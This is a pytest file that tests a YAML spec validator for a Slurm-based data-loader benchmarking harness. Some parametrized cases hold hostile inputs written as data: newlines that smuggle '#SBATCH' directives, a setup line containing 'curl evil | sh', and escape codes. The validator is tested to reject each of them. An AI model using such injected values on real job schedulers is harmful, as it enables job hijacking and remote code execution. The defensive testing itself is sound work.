from __future__ import annotations

import re
import textwrap
from pathlib import Path

import pytest

from harness.config.plan import Point, expand
from harness.config.spec import SpecError, load_spec, parse_spec
from tests.conftest import TINY_WORKLOAD


def spec_text(extra: str = "", workload: str = TINY_WORKLOAD) -> str:
    return "name: t\n" + workload + textwrap.dedent(extra)


def error_of(text: str) -> str:
    with pytest.raises(SpecError) as info:
        parse_spec(text, file="jobs/x.yaml")
    return str(info.value)


def test_defaults_fill_every_section() -> None:
    spec = parse_spec(spec_text())
    assert spec.name == "t"
    assert spec.field_values["loader.num_workers"] == (0,)
    assert spec.field_values["loader.prefetch_factor"] == (2,)
    assert spec.rungs == ("full",)
    assert spec.measure.repeats == 1
    assert spec.sampler.hz == 10.0
    assert spec.slurm.nodes == 1 and spec.slurm.tasks_per_node == 1


def test_lists_become_axes_and_scalars_do_not() -> None:
    spec = parse_spec(spec_text("loader: {num_workers: [0, 2, 4], pin_memory: true}\n"))
    assert spec.field_values["loader.num_workers"] == (0, 2, 4)
    assert spec.field_values["loader.pin_memory"] == (True,)


def test_tasks_per_node_defaults_to_one_per_gpu() -> None:
    spec = parse_spec(spec_text("slurm: {gpus_per_node: 4}\n"))
    assert spec.slurm.tasks_per_node == 4


def test_yaml_syntax_error_names_file_and_line() -> None:
    message = error_of("name: t\nworkload: {dataset: fake_cifar\nmodel: x\n")
    assert message.startswith("jobs/x.yaml:")
    assert "invalid YAML" in message


def test_unknown_key_lists_the_valid_ones_with_its_line() -> None:
    message = error_of(spec_text("loader:\n  num_worker: 4\n"))
    assert re.match(r"jobs/x\.yaml:\d+: loader\.num_worker: unknown key; valid keys: num_workers, ", message)
    line = int(message.split(":")[1])
    assert spec_text("loader:\n  num_worker: 4\n").splitlines()[line - 1].strip() == "num_worker: 4"


def test_unknown_top_level_key() -> None:
    message = error_of(spec_text("lodaer: {}\n"))
    assert "lodaer: unknown key; valid keys: name, description, workload" in message


def test_negative_workers_names_value_and_what_is_allowed() -> None:
    message = error_of(spec_text("loader: {num_workers: -1}\n"))
    assert message.endswith("loader.num_workers: -1 is not allowed; expected an integer >= 0")


def test_bad_value_inside_an_axis_names_its_index() -> None:
    message = error_of(spec_text("loader:\n  num_workers: [0, 2, four]\n"))
    assert "loader.num_workers[2]: 'four' is not allowed; expected an integer >= 0" in message


def test_wrong_type_bool_is_not_an_int() -> None:
    message = error_of(spec_text("loader: {pin_memory: 'yes'}\n"))
    assert "loader.pin_memory: 'yes' is not allowed; expected true or false" in message
    message = error_of(spec_text("loader: {num_workers: true}\n"))
    assert "loader.num_workers: true is not allowed" in message


def test_empty_axis_is_refused() -> None:
    message = error_of(spec_text("loader: {num_workers: []}\n"))
    assert "loader.num_workers: empty list; an axis needs at least one value" in message


def test_repeated_axis_value_is_refused() -> None:
    message = error_of(spec_text("loader: {num_workers: [2, 2]}\n"))
    assert "loader.num_workers: [2, 2] repeats a value" in message


def test_unknown_dataset_and_model() -> None:
    workload = TINY_WORKLOAD.replace("fake_cifar", "imagenet")
    assert (
        "workload.dataset: 'imagenet' is not allowed; expected one of fake_cifar, starved, image_folder"
        in error_of(spec_text(workload=workload))
    )
    workload = TINY_WORKLOAD.replace("model: linear", "model: vit_h")
    assert "workload.model: 'vit_h' is not allowed; expected one of resnet18" in error_of(
        spec_text(workload=workload)
    )


def test_user_factory_that_cannot_import_is_refused_at_load() -> None:
    workload = TINY_WORKLOAD.replace("dataset: fake_cifar", "dataset: nosuchpkg.data:make")
    message = error_of(spec_text(workload=workload))
    assert "workload.dataset: cannot import 'nosuchpkg.data': ModuleNotFoundError" in message


def test_user_factory_attribute_missing() -> None:
    workload = TINY_WORKLOAD.replace("dataset: fake_cifar", "dataset: tests.fixtures.workloads:nope")
    assert "'tests.fixtures.workloads' has no callable 'nope'" in error_of(spec_text(workload=workload))


def test_a_factory_may_be_an_attribute_path_after_the_colon() -> None:
    """As Hugging Face's `datasets:Dataset.from_dict`: accepted, and a missing name is named."""
    workload = TINY_WORKLOAD.replace(
        "dataset: fake_cifar", "dataset: tests.fixtures.workloads:TensorPairs.of_size"
    ).replace("dataset_args: {size: 48, image_size: 8, resize: null}", "dataset_args: {size: 48}")
    assert parse_spec(spec_text(workload=workload)).field_values["workload.dataset"] == (
        "tests.fixtures.workloads:TensorPairs.of_size",
    )
    message = error_of(spec_text(workload=workload.replace("of_size", "from_dict")))
    assert "workload.dataset: 'tests.fixtures.workloads:TensorPairs' has no attribute 'from_dict'" in message
    assert "\n" not in message.strip()


def test_dataset_args_that_do_not_fit_the_factory() -> None:
    workload = TINY_WORKLOAD.replace("resize: null", "resise: 64")
    message = error_of(spec_text(workload=workload))
    assert "workload.dataset_args: does not fit dataset 'fake_cifar'" in message
    assert "accepted: size, image_size, resize, num_classes, seed" in message


def test_missing_workload_and_missing_model() -> None:
    assert "workload: missing; expected a mapping with dataset and model" in error_of("name: t\n")
    workload = "workload:\n  dataset: fake_cifar\n"
    assert "workload.model: missing; expected one of" in error_of(spec_text(workload=workload))


def test_bad_name() -> None:
    assert "name: 'my spec' is not allowed" in error_of(spec_text().replace("name: t", "name: my spec"))


def test_rungs_unknown_and_listed_twice() -> None:
    assert "rungs[0]: 'gpu_batch' is not a rung; expected device_batch" in error_of(
        spec_text("rungs: [gpu_batch]\n")
    )
    assert "rungs[1]: 'full' is listed twice" in error_of(spec_text("rungs: [full, full]\n"))


def test_zip_needs_equal_lengths() -> None:
    message = error_of(
        spec_text(
            "loader: {num_workers: [1, 2], prefetch_factor: [2, 4, 8]}\nzip: [[num_workers, prefetch_factor]]\n"
        )
    )
    assert (
        "zip[0]: zipped axes must have the same length: loader.num_workers has 2, loader.prefetch_factor has 3"
        in (message)
    )


def test_zip_of_a_single_value_is_refused() -> None:
    message = error_of(spec_text("loader: {num_workers: [1, 2]}\nzip: [[num_workers, pin_memory]]\n"))
    assert "loader.pin_memory is not an axis" in message


def test_exclude_with_unknown_field_or_bad_value() -> None:
    message = error_of(spec_text("exclude: [{pin_memroy: false}]\n"))
    assert "exclude[0].pin_memroy: 'pin_memroy' is not a workload or loader field" in message
    message = error_of(spec_text("exclude: [{pin_memory: flase}]\n"))
    assert "exclude[0].pin_memory: 'flase' is not allowed; expected true or false" in message


def test_sequence_cannot_set_an_axis() -> None:
    message = error_of(spec_text("loader: {num_workers: [0, 2]}\nsequence: [{name: a}, {num_workers: 4}]\n"))
    assert "sequence[1].num_workers: loader.num_workers is an axis" in message


def test_slurm_and_sampler_sections_are_validated_now() -> None:
    assert "slurm.time: '20 minutes' is not allowed" in error_of(spec_text("slurm: {time: 20 minutes}\n"))
    assert "slurm.gpus: unknown key; valid keys: nodes, gpus_per_node" in error_of(
        spec_text("slurm: {gpus: 4}\n")
    )
    assert "sampler.hz: 0 is not allowed; expected a number in (0, 1000]" in error_of(
        spec_text("sampler: {hz: 0}\n")
    )


def test_duplicate_key_is_an_error() -> None:
    message = error_of(spec_text("loader:\n  num_workers: 1\n  num_workers: 2\n"))
    assert "duplicate key 'num_workers'" in message


def test_load_spec_on_missing_file(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match=r"nope\.yaml: cannot read spec: No such file or directory"):
        load_spec(tmp_path / "nope.yaml")


def test_a_spec_not_in_utf8_is_one_line_naming_its_line_and_byte(tmp_path: Path) -> None:
    """A comment saved in Latin-1 (a French course's `# réglages`): before, a traceback ending
    in UnicodeDecodeError. A byte order mark (Windows editors) is read as UTF-8's."""
    latin = tmp_path / "latin.yaml"
    latin.write_bytes("name: x\n# réglages\nworkload: {dataset: fake_cifar}\n".encode("latin-1"))
    with pytest.raises(SpecError) as raised:
        load_spec(latin)
    assert str(raised.value) == f"{latin}:2: not UTF-8 text (byte 0xe9 at column 4): save the spec as UTF-8"
    bom = tmp_path / "bom.yaml"
    bom.write_bytes(
        "name: bom\n# réglages\nworkload: {dataset: fake_cifar, model: linear}\n".encode("utf-8-sig")
    )
    assert load_spec(bom).name == "bom"


def test_gpu_normalize_needs_a_dataset_that_can_yield_uint8() -> None:
    workload = TINY_WORKLOAD.replace("fake_cifar", "starved").replace(
        "{size: 48, image_size: 8, resize: null}", "{size: 4, input_size: 16, crop: 8}"
    )
    message = error_of(
        spec_text("", workload=workload.replace("device: cpu", "device: cpu\n  gpu_normalize: true"))
    )
    assert (
        "workload.gpu_normalize: dataset 'starved' cannot yield uint8 images (it has no to_uint8() method)"
        in message
    )
    assert parse_spec(
        spec_text("", workload=TINY_WORKLOAD.replace("device: cpu", "device: cpu\n  gpu_normalize: true"))
    )


def test_the_profiled_rung_must_be_measured() -> None:
    message = error_of(spec_text("rungs: [full]\nprofile: {rung: raw_sample}\n"))
    assert "profile.rung: 'raw_sample' is not among the spec's rungs (full)" in message
    assert "profile.active: 0 is not allowed; expected an integer >= 1" in error_of(
        spec_text("profile: {active: 0}\n")
    )


@pytest.mark.parametrize(
    ("slurm", "field", "shown"),
    [
        (
            '{partition: "gpu\\n#SBATCH --account=theirs"}',
            "slurm.partition",
            "'gpu\\n#SBATCH --account=theirs'",
        ),
        ('{account: "abc\\r"}', "slurm.account", "'abc\\r'"),
        ('{qos: "q\\u2028x"}', "slurm.qos", "'q\\u2028x'"),
        ('{constraint: "a100\\tb"}', "slurm.constraint", "'a100\\tb'"),
        ('{hint: "nomultithread\\n"}', "slurm.hint", "'nomultithread\\n'"),
        ('{mem: "40G\\n"}', "slurm.mem", "'40G\\n'"),  # Slurm's pattern alone lets \n through
        ('{time: "00:20:00\\n"}', "slurm.time", "'00:20:00\\n'"),
        (
            '{setup: ["module purge", "module load x\\ncurl evil | sh"]}',
            "slurm.setup[1]",
            "'module load x\\ncurl evil | sh'",
        ),
        ('{extra: {mail-type: "END\\n#SBATCH --x"}}', "slurm.extra.mail-type", "'END\\n#SBATCH --x'"),
        (
            '{extra: {"mail-type\\n#SBATCH --x": END}}',
            "slurm.extra.mail-type\\n#SBATCH --x",
            "'mail-type\\n#SBATCH --x'",
        ),
        ('{extra: {comment: "a\\u001b[31m"}}', "slurm.extra.comment", "'a\\x1b[31m'"),
    ],
)
def test_a_value_that_becomes_an_sbatch_line_holds_one_line(slurm: str, field: str, shown: str) -> None:
    message = error_of(spec_text(f"slurm: {slurm}\n"))
    assert message == (
        f"jobs/x.yaml:9: {field}: {shown} is not allowed; expected a single line without control characters"
    )
    assert "\n" not in message


def test_a_name_with_a_line_break_is_refused() -> None:
    message = error_of(spec_text().replace("name: t", 'name: "t\\n#SBATCH --x"'))
    assert message.startswith("jobs/x.yaml:1: name: 't\\n#SBATCH --x' is not allowed")
    assert "name: 't\\n' is not allowed" in error_of(spec_text().replace("name: t", 'name: "t\\n"'))


@pytest.mark.parametrize("text", ["", "\n", "# only a comment\n", "---\n"])
def test_an_empty_spec_says_it_is_empty(text: str) -> None:
    assert error_of(text) == (
        "jobs/x.yaml: the spec is empty; expected a mapping with keys name, description, workload, "
        "measure, rungs, loader, zip, exclude, sequence, slurm, sampler, profile, expect, limits"
    )


def test_expectations_are_read_with_their_filters() -> None:
    spec = parse_spec(
        spec_text(
            """\
            rungs: [device_batch, full]
            expect:
              - {min_of_bound: 0.9}
              - {min_samples_per_s: 500, loader.num_workers: 8, node_type: "8× NVIDIA A100-SXM4-80GB"}
              - {max_loading_time: 0.01, rung: device_batch, point: 3f9c2a1b}
            """
        )
    )
    labels = [e.label() for e in spec.expect]
    assert labels == [
        "min_of_bound >= 0.9",
        "min_samples_per_s >= 500 (num_workers=8, node_type=8× NVIDIA A100-SXM4-80GB)",
        "max_loading_time <= 0.01 (rung=device_batch, point=3f9c2a1b)",
    ]
    assert parse_spec(spec_text()).expect == ()


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ("expect: {min_gpu_util: 90}\n", r":9: expect: {'min_gpu_util': 90} is not allowed; expected a list"),
        (
            "expect:\n  - {min_gpu_util: 90, nmu_workers: 2}\n",
            r":10: expect\[0\]\.nmu_workers: unknown key; valid keys: min_samples_per_s, max_loading_time, min_of_bound, min_gpu_util, point, step",
        ),
        ("expect:\n  - {num_workers: 2}\n", r":10: expect\[0\]: one figure per entry \(none given\)"),
        (
            "expect:\n  - {min_gpu_util: 90, max_loading_time: 1}\n",
            r"one figure per entry \(max_loading_time, min_gpu_util given\)|one figure per entry \(min_gpu_util, max_loading_time given\)",
        ),
        (
            "expect:\n  - {min_gpu_util: lots}\n",
            r"expect\[0\]\.min_gpu_util: 'lots' is not allowed; expected a number",
        ),
        (
            "expect:\n  - {min_gpu_util: 90, num_workers: -1}\n",
            r"expect\[0\]\.num_workers: -1 is not allowed; expected an integer >= 0",
        ),
        (
            "expect:\n  - {min_gpu_util: 90, rung: host_batch}\n",
            r"expect\[0\]\.rung: 'host_batch' is not among the spec's rungs \(full\)",
        ),
        (
            "expect:\n  - {min_gpu_util: 90, step: warm}\n",
            r"expect\[0\]\.step: 'warm' is not among the spec's steps \(none\)",
        ),
        (
            "rungs: [device_batch, full]\nexpect:\n  - {min_of_bound: 0.9, rung: full}\n",
            r"expect\[0\]\.rung: min_of_bound compares full with the bound rung",
        ),
    ],
)
def test_a_bad_expectation_is_one_line_naming_it(extra: str, message: str) -> None:
    assert re.search(message, error_of(spec_text(extra)))


# --- a user's pipeline: collate, sampler, batch_sampler, loss, step, batch_samples ------------

P = "tests.fixtures.pipelines"
DICT_WORKLOAD = f"""\
workload:
  dataset: {P}:tokens
  model: {P}:tiny_lm
  collate: {P}:pad_collate
  batch_size: 4
  device: cpu
measure: {{warmup_steps: 1, steps: 3}}
"""


def test_a_pipeline_of_factories_loads_and_its_args_are_axes() -> None:
    text = "name: t\n" + DICT_WORKLOAD.replace(
        "  batch_size: 4",
        f"  batch_size: 4\n  collate_args: [{{pad: 0}}, {{pad: 0, delay: 0.01}}]\n"
        f"  batch_sampler: {P}:buckets\n  loss: {P}:output_loss\n  batch_samples: {P}:count_labels",
    )
    spec = parse_spec(text)
    assert spec.field_values["workload.collate_args"] == ({"pad": 0}, {"pad": 0, "delay": 0.01})
    assert spec.field_values["workload.loss"] == (f"{P}:output_loss",)
    # It loaded, so tiny_lm, which has no num_classes parameter, was not checked with one.


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        (
            [f"loss: {P}:nope"],
            rf"jobs/x\.yaml:\d+: workload\.loss: cannot load loss '{P}:nope': '{P}' has no callable 'nope'",
        ),
        (
            ["step: nosuchpkg.train:step"],
            r"workload\.step: cannot load step 'nosuchpkg\.train:step': cannot import 'nosuchpkg\.train'",
        ),
        (
            ["collate_args: {pad: 0, width: 3}"],
            rf"workload\.collate_args: does not fit collate '{P}:pad_collate': got an unexpected keyword "
            r"argument 'width'; the harness calls it as \(\*\*collate_args\)",
        ),
        (
            [f"sampler: {P}:tokens"],  # a factory of the wrong shape: no rank, world_size, seed
            rf"workload\.sampler: does not fit sampler '{P}:tokens': .*; the harness calls it as "
            r"\(dataset, rank=, world_size=, seed=, \*\*sampler_args\)",
        ),
        (
            [f"batch_sampler: {P}:buckets", "batch_sampler_args: {rank: 3}"],
            rf"workload\.batch_sampler_args: does not fit batch_sampler '{P}:buckets': rank is passed "
            r"by the harness \(the point's own\); remove it from batch_sampler_args",
        ),
        (
            [f"batch_samples: {P}:adamw_step"],
            rf"workload\.batch_samples: does not fit batch_samples '{P}:adamw_step': .*; the harness "
            r"calls it as \(batch\)",
        ),
        (["loss_args: {scale: 2}"], r"workload\.loss_args: loss_args given without workload\.loss"),
        (
            [f"sampler: {P}:every_other", f"batch_sampler: {P}:buckets"],
            r"workload\.batch_sampler: give sampler or batch_sampler, not both: the batch sampler "
            r"chooses the indices itself",
        ),
        (
            [f"step: {P}:adamw_step", f"loss: {P}:output_loss"],
            r"workload\.loss: give step or loss, not both: the step computes its own loss",
        ),
        (
            [f"step: {P}:adamw_step", "amp: [false, fp16]"],
            rf"workload\.amp: fp16 with step '{P}:adamw_step': loss scaling \(a GradScaler\) is the "
            r"step's own business; use amp: bf16",
        ),
    ],
)
def test_each_pipeline_factory_is_checked_before_anything_runs(lines: list[str], message: str) -> None:
    text = "name: t\n" + DICT_WORKLOAD.replace(
        "  batch_size: 4", "  batch_size: 4\n" + "".join(f"  {x}\n" for x in lines).rstrip("\n")
    )
    assert re.search(message, error_of(text)), error_of(text)


def test_a_factory_set_by_a_sequence_step_is_checked_too() -> None:
    text = (
        "name: t\n"
        + DICT_WORKLOAD
        + f"sequence:\n  - {{name: a}}\n  - {{name: b, workload.loss: '{P}:nah'}}\n"
    )
    message = error_of(text)
    assert re.search(rf"jobs/x\.yaml:\d+: sequence\[1\]\.workload\.loss: cannot load loss '{P}:nah'", message)


# --- a script workload (harness.probe) -------------------------------------------------------


def test_a_script_is_found_from_the_specs_folder_and_recorded_absolute(tmp_path: Path) -> None:
    (tmp_path / "train.py").write_text("")
    spec_path = tmp_path / "spec.yaml"
    spec_path.write_text("name: s\nworkload:\n  script: train.py\n  args: [--lr, '0.1']\n")
    values = load_spec(spec_path).field_values
    assert values["workload.script"] == (str(tmp_path / "train.py"),)
    assert values["workload.args"] == (["--lr", "0.1"],)
    # The script owns its dataset, model and batch size (unless the spec gives one).
    assert values["workload.dataset"] == values["workload.model"] == values["workload.batch_size"] == (None,)


def test_a_missing_script_is_one_line_with_where_it_was_looked_for(tmp_path: Path) -> None:
    spec_path = tmp_path / "spec.yaml"
    spec_path.write_text("name: s\nworkload:\n  script: nowhere/train.py\n")
    expected = (
        f"{spec_path}:3: workload.script: 'nowhere/train.py' not found (looked for "
        f"{tmp_path / 'nowhere' / 'train.py'}); expected a path relative to the spec's folder, or absolute"
    )
    with pytest.raises(SpecError) as e:
        load_spec(spec_path)
    assert str(e.value) == expected


def test_a_script_refuses_the_fields_it_owns(tmp_path: Path) -> None:
    (tmp_path / "train.py").write_text("")
    spec_path = tmp_path / "spec.yaml"
    spec_path.write_text("name: s\nworkload:\n  script: train.py\n  model: resnet18\n")
    with pytest.raises(
        SpecError,
        match=re.escape(
            "spec.yaml:4: workload.model: not allowed with workload.script: the script owns its "
            "dataset, model and training step; beside script give args, batch_size, flags (and loader: settings)"
        ),
    ):
        load_spec(spec_path)


def test_limits_are_checked_and_not_part_of_a_points_id() -> None:
    """A limit changes when a point gives up, not what it measures: raising one and resuming
    finds the points already done."""
    assert error_of(spec_text("limits: {batch_timeout_s: -1}\n")) == (
        "jobs/x.yaml:9: limits.batch_timeout_s: -1 is not allowed; expected a number of seconds >= 0 (0: wait forever)"
    )
    assert error_of(spec_text("limits: {dist_timeout_s: 0}\n")) == (
        "jobs/x.yaml:9: limits.dist_timeout_s: 0 is not allowed; expected a number of seconds > 0"
    )
    (plain,) = expand(parse_spec(spec_text())).points
    (limited,) = expand(parse_spec(spec_text("limits: {batch_timeout_s: 20, dist_timeout_s: 60}\n"))).points
    assert limited.id == plain.id
    assert (limited.limits.batch_timeout_s, limited.limits.dist_timeout_s) == (20, 60)
    assert Point.from_json(limited.to_json()).limits == limited.limits


@pytest.mark.parametrize(
    ("slurm", "field", "shown"),
    [
        ('{partition: "gpu%j"}', "slurm.partition", "'gpu%j'"),
        ('{account: "abc%A"}', "slurm.account", "'abc%A'"),
        ('{qos: "%x"}', "slurm.qos", "'%x'"),
        ('{constraint: "a100%"}', "slurm.constraint", "'a100%'"),
        ('{extra: {"out%j": x}}', "slurm.extra.out%j", "'out%j'"),
    ],
)
def test_a_slurm_name_with_a_percent_is_refused(slurm: str, field: str, shown: str) -> None:
    assert error_of(spec_text(f"slurm: {slurm}\n")) == (
        f"jobs/x.yaml:9: {field}: {shown} is not allowed; expected a Slurm name without '%' "
        "(submitit and Slurm replace '%' patterns in the job's paths (%j: the job id))"
    )


def test_a_setup_line_may_hold_a_percent() -> None:
    """Slurm leaves the script's body alone: a shell line may need a `%` (date +%s)."""
    spec = parse_spec(spec_text('slurm: {setup: ["echo start $(date +%s)"]}\n'))
    assert spec.slurm.setup == ("echo start $(date +%s)",)


@pytest.mark.parametrize("name", ["run%j", "run\n#SBATCH --x"])
def test_a_spec_name_with_a_percent_or_a_line_break_is_refused(name: str) -> None:
    """The name is a folder of the results root and part of the job's name."""
    message = error_of(spec_text().replace("name: t", f"name: {name!r}".replace("'", '"')))
    assert message.startswith(f"jobs/x.yaml:1: name: {name!r} is not allowed; expected letters, digits")


# --- workload.loader: a loader factory (harness/workloads/loader_factory.py) -------------------

L = "tests.fixtures.loaders"


def loader_spec(workload: str, loader: str = "{num_workers: 0}", rungs: str = "[full]") -> str:
    return (
        f"name: t\nworkload:\n  model: linear\n  batch_size: 4\n  device: cpu\n{workload}"
        f"loader: {loader}\nrungs: {rungs}\nmeasure: {{warmup_steps: 1, steps: 3}}\n"
    )


def test_a_loader_factory_needs_no_dataset_and_its_args_are_axes() -> None:
    spec = parse_spec(loader_spec(f"  loader: {L}:dataloader\n  loader_args: [{{size: 8}}, {{size: 16}}]\n"))
    assert spec.field_values["workload.dataset"] == (None,)
    plan = expand(spec)
    assert [p.workload.loader_args for p in plan.points] == [{"size": 8}, {"size": 16}]
    # It takes num_workers, prefetch_factor and drop_last: the other two are said in plan.
    assert (
        f"persistent_workers, pin_memory not taken by {L}:dataloader: measured as the loader sets them "
        "(the rows record the loader's own value where it reports one, a DataLoader's attributes; "
        "empty otherwise)"
    ) in plan.notes


def test_a_loader_factory_taking_kwargs_takes_every_setting_and_plan_says_which_rungs_depend() -> None:
    plan = expand(
        parse_spec(loader_spec(f"  loader: {L}:datamodule\n", rungs="[host_batch, raw_sample, full]"))
    )
    assert not any("not taken" in n for n in plan.notes)
    assert any(
        n.startswith(
            f"rung raw_sample of {L}:datamodule: measured only where its loader exposes a map-style dataset"
        )
        for n in plan.notes
    )


@pytest.mark.parametrize(
    ("workload", "loader", "message"),
    [
        (
            f"  loader: {L}:fixed_workers\n",
            "{num_workers: [0, 2]}",
            rf"jobs/x\.yaml:\d+: loader\.num_workers: num_workers is an axis, but {L}:fixed_workers does "
            r"not take num_workers: its points would measure the same loader under 2 labels",
        ),
        (
            f"  loader: {L}:dataloader\n  loader_args: {{num_workers: 3}}\n",
            "{}",
            rf"workload\.loader_args: does not fit loader '{L}:dataloader': num_workers is the point's own "
            r"\(passed by the harness where the factory accepts it\); give it in the loader: section",
        ),
        (
            f"  loader: {L}:needs\n",
            "{}",
            rf"workload\.loader: does not fit loader '{L}:needs': missing a required argument: 'root'; "
            r"the harness passes it batch_size= and loader_args",
        ),
        (
            f"  loader: {L}:dataloader\n  collate: {L}:tagged\n",
            "{}",
            r"workload\.collate: not used with workload\.loader: the factory's loader does its own collate",
        ),
        (
            "  dataset: fake_cifar\n  loader_args: {size: 3}\n",
            "{}",
            r"workload\.loader_args: loader_args given without workload\.loader",
        ),
        (
            f"  dataset: {L}:sized\n  dataset_args: {{batch_size: 8}}\n",
            "{}",
            rf"workload\.dataset_args: batch_size is the point's own: dataset '{L}:sized' asks for it, so the "
            r"harness passes it",
        ),
    ],
    ids=["axis-not-taken", "own-in-args", "unbound", "collate-beside", "args-without", "dataset-place"],
)
def test_a_loader_factory_is_checked_before_anything_runs(workload: str, loader: str, message: str) -> None:
    error = error_of(loader_spec(workload, loader))
    assert re.search(message, error), error


def test_a_dataset_factory_asking_for_its_place_loads_without_them_in_its_args() -> None:
    spec = parse_spec(loader_spec(f"  dataset: {L}:sized\n  dataset_args: {{size: 8}}\n"))
    assert spec.field_values["workload.dataset_args"] == ({"size": 8},)


def test_loss_model_names_the_outputs_own_loss_and_a_typo_says_what_is_allowed() -> None:
    spec = parse_spec(
        "name: t\n" + DICT_WORKLOAD.replace("  batch_size: 4", "  batch_size: 4\n  loss: model")
    )
    assert spec.field_values["workload.loss"] == ("model",)
    typo = "name: t\n" + DICT_WORKLOAD.replace("  batch_size: 4", "  batch_size: 4\n  loss: modle")
    assert re.search(
        r"workload\.loss: 'modle' is not allowed.*\"model\", \"package\.module:factory\" or null",
        error_of(typo),
    ), error_of(typo)


UNMEASURED = "".join(
    line for line in TINY_WORKLOAD.splitlines(keepends=True) if not line.startswith("measure:")
)
"""The tiny workload without its measure: section."""


def test_steps_auto_is_read_as_its_least_steps_and_its_least_and_most_seconds() -> None:
    """harness/execution/loop.py: an auto window measures at least 5 blocks of 8 steps, lasts
    at least measure.seconds (2 s unless given) and at most measure.max_seconds (30 s)."""
    m = parse_spec(spec_text(workload=UNMEASURED, extra="measure: {steps: auto}\n")).measure
    assert (m.steps, m.seconds, m.max_seconds, m.auto_window) == (40, 2.0, 30.0, True)
    m = parse_spec(
        spec_text(workload=UNMEASURED, extra="measure: {steps: auto, seconds: 5, max_seconds: 60}\n")
    ).measure
    assert (m.seconds, m.max_seconds) == (5, 60)
    # A least duration past the default most raises the most with it.
    assert (
        parse_spec(
            spec_text(workload=UNMEASURED, extra="measure: {steps: auto, seconds: 45}\n")
        ).measure.max_seconds
        == 45
    )
    assert not parse_spec(spec_text(workload=UNMEASURED, extra="measure: {steps: 20}\n")).measure.auto_window


def test_a_bad_steps_value_names_file_line_field_value_and_what_is_allowed() -> None:
    text = spec_text(workload=UNMEASURED, extra="measure:\n  steps: autoo\n")
    message = error_of(text)
    line = text.splitlines().index("  steps: autoo") + 1
    assert message == (
        f"jobs/x.yaml:{line}: measure.steps: 'autoo' is not allowed; expected an integer >= 1, or auto"
    )


def test_max_seconds_needs_steps_auto_and_at_least_the_least_seconds() -> None:
    message = error_of(spec_text(workload=UNMEASURED, extra="measure: {steps: 20, max_seconds: 10}\n"))
    assert message.endswith(
        "measure.max_seconds: 10 is the most an auto window lasts: it needs measure.steps: auto "
        "(measure.steps is 20)"
    )
    message = error_of(
        spec_text(workload=UNMEASURED, extra="measure: {steps: auto, seconds: 10, max_seconds: 5}\n")
    )
    assert message.endswith(
        "measure.max_seconds: 5 is less than measure.seconds (10), the least an auto window lasts; "
        "expected a number of seconds >= measure.seconds"
    )


def test_axes_that_cross_into_more_combinations_than_a_plan_holds_are_one_line() -> None:
    """Four axes of 40 values, and two of 2: 409,600 combinations, which `plan` would have
    expanded for minutes (issue 37's huge spec); refused before anything is expanded."""
    values = list(range(1, 41))
    text = (
        f"name: huge\nworkload: {{dataset: fake_cifar, model: linear, batch_size: {values}}}\n"
        f"loader: {{num_workers: {values[:32]}, prefetch_factor: {values}, pin_memory: [true, false],\n"
        "  drop_last: [true, false], non_blocking: [true, false]}\n"
    )
    with pytest.raises(SpecError) as refused:
        parse_spec(text, file="huge.yaml")
    assert str(refused.value) == (
        "huge.yaml:2: workload.batch_size: the axes cross into 409,600 combinations (workload.batch_size 40 "
        "× loader.num_workers 32 × loader.pin_memory 2 × loader.non_blocking 2 × loader.prefetch_factor 40 "
        "× loader.drop_last 2); at most 250,000 are planned: narrow an axis, zip axes that go together, or "
        "split the sweep"
    )


def test_zipped_axes_count_once_against_the_most_combinations() -> None:
    values = list(range(1, 401))
    text = (
        f"name: zipped\nworkload: {{dataset: fake_cifar, model: linear, batch_size: {values}}}\n"
        f"loader: {{prefetch_factor: {values}, num_workers: [1, 2]}}\n"
        "zip: [[workload.batch_size, loader.prefetch_factor]]\n"
    )
    assert parse_spec(text).field_values["workload.batch_size"] == tuple(values)  # 800, not 320,000


def test_a_sequence_step_name_with_a_line_break_is_one_line() -> None:
    """A step's name is a cell of the tables and a word of the recommendation's line: a line
    break there split the console's answer in two (issue 37's hostile name)."""
    text = (
        "name: seq\nworkload: {dataset: fake_cifar, model: linear}\n"
        'sequence:\n  - {name: "../x\\nnum_workers=8"}\n  - {name: b, loader.num_workers: 1}\n'
    )
    with pytest.raises(SpecError) as refused:
        parse_spec(text, file="seq.yaml")
    assert str(refused.value) == (
        "seq.yaml:4: sequence[0].name: '../x\\nnum_workers=8' is not allowed; "
        "expected a single line without control characters"
    )


def test_a_size_axis_is_checked_value_by_value_in_one_line() -> None:
    """slurm.nodes: [1, 2] was refused before sizes were axes; a bad value in it is named."""
    base = "name: t\nworkload: {dataset: fake_cifar, model: linear}\n"
    assert [s.nodes for s in parse_spec(base + "slurm: {nodes: [1, 2]}\n").scales] == [1, 2]
    cases = {
        "slurm: {nodes: [1, 0]}": r"t.yaml:3: slurm.nodes\[1\]: 0 is not allowed; expected an integer >= 1$",
        "slurm: {nodes: []}": r"slurm.nodes: empty list; an axis of sizes needs at least one integer >= 1$",
        "slurm: {gpus_per_node: [1, x]}": r"slurm.gpus_per_node\[1\]: 'x' is not allowed; expected an integer >= 0$",
        "slurm: {tasks_per_node: [2, 2]}": r"slurm.tasks_per_node: \[2, 2\] repeats a value; each value once$",
        "slurm: {nodes: 0}": r"slurm.nodes: 0 is not allowed; expected an integer >= 1, or a list of them",
    }
    for line, message in cases.items():
        with pytest.raises(SpecError, match=message):
            parse_spec(base + line + "\n", file="t.yaml")


def test_tasks_per_node_null_is_one_rank_per_gpu_at_each_size() -> None:
    spec = parse_spec(
        "name: t\nworkload: {dataset: fake_cifar, model: linear}\nslurm: {gpus_per_node: [0, 4]}\n"
    )
    assert [(s.gpus_per_node, s.tasks_per_node) for s in spec.scales] == [(0, 1), (4, 4)]
    assert spec.slurm.tasks_per_node == 1  # the first size's, as a spec of integers had
